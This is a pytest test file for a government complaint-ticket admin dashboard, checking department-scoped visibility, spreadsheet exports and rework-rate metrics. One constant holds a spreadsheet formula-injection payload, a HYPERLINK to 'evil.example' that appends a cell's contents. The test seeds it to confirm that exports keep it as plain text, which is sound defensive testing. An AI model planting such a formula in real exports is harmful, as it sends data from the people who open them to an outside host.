"""Department heads see only their department everywhere; exported cells never become formulas (issue 15)."""

from __future__ import annotations

import io
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook

from admin.accounts import create_account, parse_roles
from govchat.app import create_app
from govchat.runtime import Runtime, build_runtime
from kernel.config import Settings
from kernel.identity import Actor, Role
from office_flows.directory.demo import load_demo_directory
from tests.support.admin_rig import PASSWORD, login, seed, seed_rated_tickets
from tests.support.office_rig import who

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
async def rt(sqlite_settings: Settings, clock: Any) -> AsyncIterator[Runtime]:
    runtime = await build_runtime(sqlite_settings, clock=clock, load_model=False)
    await seed(runtime)
    yield runtime
    await runtime.close()


async def _serve(rt: Runtime) -> TestClient[Any, Any]:
    client: TestClient[Any, Any] = TestClient(TestServer(create_app(rt, background=False)))
    await client.start_server()
    return client


async def test_a_head_sees_only_their_departments_tickets(rt: Runtime) -> None:
    codes = await seed_rated_tickets(rt)  # all handled by 城管局 (MJ-CGJ)
    all_codes = codes["good"] + codes["bad"]
    async with rt.db.session() as s:
        await create_account(
            s, "wangqiang", parse_roles("department_head"), now=rt.clock.now(), password=PASSWORD, person_code="MJ003"
        )
        await create_account(
            s, "cg-head", parse_roles("department_head"), now=rt.clock.now(), password=PASSWORD, person_code="MJ090"
        )
    client = await _serve(rt)
    try:
        await login(client, "wangqiang")  # 区政府办主任: not 城管局
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert "夜间施工噪音扰民" not in html and not any(c in html for c in all_codes)
        html = await (
            await client.get("/admin/dashboard/drill", params={"metric": "satisfaction", "department": "MJ-CGJ"})
        ).text()
        assert not any(c in html for c in all_codes)
        dash = await (await client.get("/admin/dashboard")).text()
        assert not any(c in dash for c in all_codes)
        await login(client, "cg-head")
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert all(c in html for c in all_codes)
        await login(client, "supervisor")
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert all(c in html for c in all_codes)
    finally:
        await client.close()


async def test_exported_comments_starting_with_a_formula_sign_stay_text(rt: Runtime) -> None:
    codes = await seed_rated_tickets(rt)
    # a second bad rating, after rectification, carries a formula as its comment
    ident = rt.bot.services.identity
    head = await ident.whois("web", "demo-hejianxin")
    bad = codes["bad"][0]
    await rt.tickets.record_callback(bad, head, "已回访")
    await rt.tickets.rectified(bad, head, "已整改")
    await rt.tickets.rate(bad, Actor("rest", "rater-2", frozenset({Role.CITIZEN})), 1, FORMULA)
    client = await _serve(rt)
    try:
        await login(client, "supervisor")
        resp = await client.get("/admin/dashboard/export/bad.xlsx")
        assert resp.status == 200
        ws = load_workbook(io.BytesIO(await resp.read())).active
        cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
    finally:
        await client.close()


async def test_rework_rate_drill_down_lists_the_reworked_and_small_samples_say_so(rt: Runtime) -> None:
    """One ticket answered, sent back and answered again, one answered once: the rework rate is 50 %, its
    problem link lists the reworked ticket (labelled so) and the rates say how few tickets they rest on."""
    async with rt.db.session() as s:
        await load_demo_directory(s)
    svc = rt.tickets
    dispatcher, handler, supervisor = [await who(rt.db, n) for n in ("demo-zhongli", "demo-zhuli", "demo-laijianguo")]
    codes: list[str] = []
    for text in ("江南路夜市占道经营到凌晨", "金山街道垃圾桶满了没人清运"):
        citizen = Actor("web", f"c-{len(codes)}", frozenset({Role.CITIZEN}))
        code = (await svc.create(kind="投诉", content=text, channel="web", sender=citizen.sender, actor=citizen)).code
        await svc.dispatch(code, dispatcher, "城管局")
        await svc.sign(code, handler)
        await svc.reply(code, handler, "已现场处理完毕")
        codes.append(code)
    await svc.rework(codes[0], supervisor, "现场复核仍有摊点")
    await svc.reply(codes[0], handler, "已再次清理并安排每晚巡查")
    async with TestClient(TestServer(create_app(rt, background=False))) as client:
        await login(client, "supervisor")
        page = await (await client.get("/admin/dashboard")).text()
        assert "发回重办率（越低越好）" in page
        link = re.search(r'class="problems" data-metric="rework_rate" href="([^"]+)">发回重办过 1</a> / 2', page)
        assert link is not None, page
        assert "2 张工单，样本过少" in page
        drill = await (await client.get(link.group(1).replace("&amp;", "&"))).text()
        assert "发回重办率（越低越好）：发回重办过的工单" in drill and codes[0] in drill and codes[1] not in drill
        xlsx = await client.get("/admin/dashboard/export/metrics.xlsx")
        wb = load_workbook(io.BytesIO(await xlsx.read()))
        ws = wb["考核指标"]
        header = [c.value for c in ws[1]]
        col = header.index("发回重办率（越低越好）") + 1
        cell = ws.cell(row=2, column=col)
        assert cell.value == 0.5 and cell.number_format == "0.0%"
        assert ws.cell(row=2, column=col + 1).value == 1 and ws.cell(row=2, column=col + 2).value == 2
        assert ws.column_dimensions["A"].width >= 20  # sized to 梅江区城市管理和综合执法局
